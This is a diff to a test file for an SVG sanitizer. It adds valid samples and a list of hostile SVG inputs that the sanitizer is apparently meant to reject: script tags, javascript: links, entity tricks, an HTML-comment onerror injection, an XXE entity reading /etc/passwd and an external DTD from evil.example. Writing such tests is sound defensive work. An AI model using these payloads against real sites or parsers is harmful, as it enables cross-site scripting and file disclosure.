@@ -60,6 +60,18 @@ def valid() -> dict[str, bytes]:
             '<imageReplacement xmlns="http://ns.adobe.com/ImageReplacement/1.0/" width="1"/></foreignObject>'
         ),
         "use in a circle": '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>',
+        "link to a page": '<a href="https://example.org/?a=1#b" target="_blank"><rect width="9"/></a>',
+        "link to a mailbox": '<a xlink:href="mailto:ann@example.org"><text>Ann</text></a>',
+        "name of a layer with brackets": '<g id="image (1)" class="src (2)" data-name="url(3)" name="expression (4)"/>',
+        "colour as background": '<g background="rgb(1, 2, 3)"/>',
+        "unknown elements": "<description>a (b)</description><metadata><layer x='1'><source/></layer></metadata>",
+        "empty script of a browser extension": '<script id="page-script"/><script xmlns="" class="a"> </script>',
+        "script with an empty CDATA section": "<script type='text/javascript'><![CDATA[ ]]></script>",
+        "handler without code": '<g onclick="null" onload=""/>',
+        "embedded font without a type": '<style>@font-face{src:url("data:;base64,\\\nT1RUTwADACA=")}</style>',
+        "embedded font as bytes": "<style>@font-face{src:url(data:application/octet-stream;base64,AAEAAAAM)}</style>",
+        "embedded picture of Photoshop": f'<image xlink:href="data:img/png;base64,{_PICTURE}" width="9"/>',
+        "embedded colour profile": '<color-profile xlink:href="data:application/vnd.iccprofile;base64,AAAB2GxjbXM="/>',
         "deep": "<g>" * 200 + "</g>" * 200,
     }
     return {name: svg(content) for name, content in contents.items()} | {
@@ -76,6 +88,18 @@ def valid() -> dict[str, bytes]:
         "ISO-8859-1": svg("<title>f\xfcr</title>", '<?xml version="1.0" encoding="iso-8859-1"?>')
         .decode()
         .encode("latin-1"),
+        "Windows-1252": svg("<title>1\u201320 \u20ac</title>", '<?xml version="1.0" encoding="windows-1252"?>')
+        .decode()
+        .encode("cp1252"),
+        "UTF-8 that calls itself UTF-16": svg("<title>f\xfcr</title>", '<?xml version="1.0" encoding="utf-16"?>'),
+        "addresses of namespaces as entities": svg(
+            '<g xmlns:i="&ns_ai;" i:a="self"/>',
+            f'<!DOCTYPE svg [<!-- a --><!ENTITY ns_ai "{_AI}"><!ENTITY ns_svg "{SVG}">]>',
+        ),
+        "addresses of namespaces as entities of other names": svg(
+            '<g xmlns:dc="&dc;"/>',
+            '<!DOCTYPE svg [<!ENTITY xlink "http://www.w3.org/1999/xlink"><!ENTITY dc "http://a.b/">]>',
+        ),
         "XMP packet": svg('<metadata><?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><?xpacket end="w"?></metadata>'),
         "umlauts and emoji": svg("<text>für 🦊</text>"),
         "large": svg('<path d="M0 0L1 1"/>' * 20_000),
@@ -86,6 +110,19 @@ _ACTIVE = {
     "script": "<script>alert(1)</script>",
     "script with a reference": '<script xlink:href="https://evil.example/a.js"/>',
     "script in a prefixed namespace": f'<x:script xmlns:x="{SVG}">alert(1)</x:script>',
+    "script of blanks and a comment": "<script> <!-- a --></script>",
+    "script with an element": "<script><g/></script>",
+    "script with a CDATA section": "<script><![CDATA[ a() ]]></script>",
+    "script with a source": '<script src="a.js"/>',
+    "script with a source of XHTML": '<script xmlns="http://www.w3.org/1999/xhtml" src="a.js"/>',
+    "empty script in a title": "<title><script/></title>",
+    "unknown element in a description that HTML knows": '<desc><form action="a"/></desc>',
+    "link to a script in an unknown element": '<layer href="javascript:alert(1)"/>',
+    "picture of an unknown element": '<layer src="https://evil.example/a.png"/>',
+    "background from elsewhere": '<g background="https://evil.example/a.png"/>',
+    "profile from elsewhere as data": '<color-profile xlink:href="data:text/html,a"/>',
+    "style: data without a type": "<style>@font-face{src:url(data:;base64,PHN2Zz4=)}</style>",
+    "style: bytes that are no font": "<style>a{fill:url(data:application/octet-stream;base64,PHN2Zz4=)}</style>",
     "script of XHTML": '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
     "script without namespace": '<script xmlns="">alert(1)</script>',
     "script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
@@ -108,7 +145,6 @@ _ACTIVE = {
     "link to a script, obfuscated": '<a href=" &#10;java&#10;scr&#9;ipt:alert(1)"/>',
     "link to a script by entities": '<a href="&#106;&#x61;vascript&colon;alert(1)"/>'.replace("&colon;", "&#58;"),
     "link to a page in a URL": '<a href="data:text/html;base64,PHNjcmlwdD4="/>',
-    "link to elsewhere": '<a href="https://example.org/"/>',
     "use of another file": '<use href="https://evil.example/a.svg#x"/>',
     "use of a URL with a drawing": '<use href="data:image/svg+xml;base64,PHN2Zz4=#x"/>',
     "picture from elsewhere": '<image href="https://evil.example/a.png"/>',
@@ -160,6 +196,20 @@ def hostile() -> dict[str, Bad]:
     active = {name: svg(content) for name, content in _ACTIVE.items()} | {
         "event attribute of the root": plain.replace(b"viewBox", b'onload="alert(1)" viewBox'),
         "entities": svg("<text>&b;</text>", entities),
+        "entity of another name": svg(prolog='<!DOCTYPE svg [<!ENTITY colon "http://a.example/">]>'),
+        "entity that begins like a character": svg(prolog='<!DOCTYPE svg [<!ENTITY ltx "http://a.example/">]>'),
+        "entity that is no address": svg(prolog='<!DOCTYPE svg [<!ENTITY ns_a "javascript:alert(1)">]>'),
+        "entity with markup": svg(prolog='<!DOCTYPE svg [<!ENTITY ns_a "http://a/&#60;script/>">]>'),
+        "entity as a style's address": svg(
+            "<style>a{fill:url(&ns_a;)}</style>", '<!DOCTYPE svg [<!ENTITY ns_a "http://a.example/">]>'
+        ),
+        "entity as a picture's address": svg(
+            '<image href="&ns_a;"/>', '<!DOCTYPE svg [<!ENTITY ns_a "http://a.example/">]>'
+        ),
+        "comment that ends the document type in HTML": svg(
+            prolog='<!DOCTYPE svg [<!-- ><img src=x onerror=alert(1)> --><!ENTITY ns_a "http://a.example/">]>'
+        ),
+        "script that calls itself UTF-16": svg("<script>alert(1)</script>", '<?xml version="1.0" encoding="utf-16"?>'),
         "external entity": svg("<text>&x;</text>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
         "parameter entity": svg(prolog='<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/a.dtd">%x;]>'),
         "attribute by document type": svg(prolog='<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'),
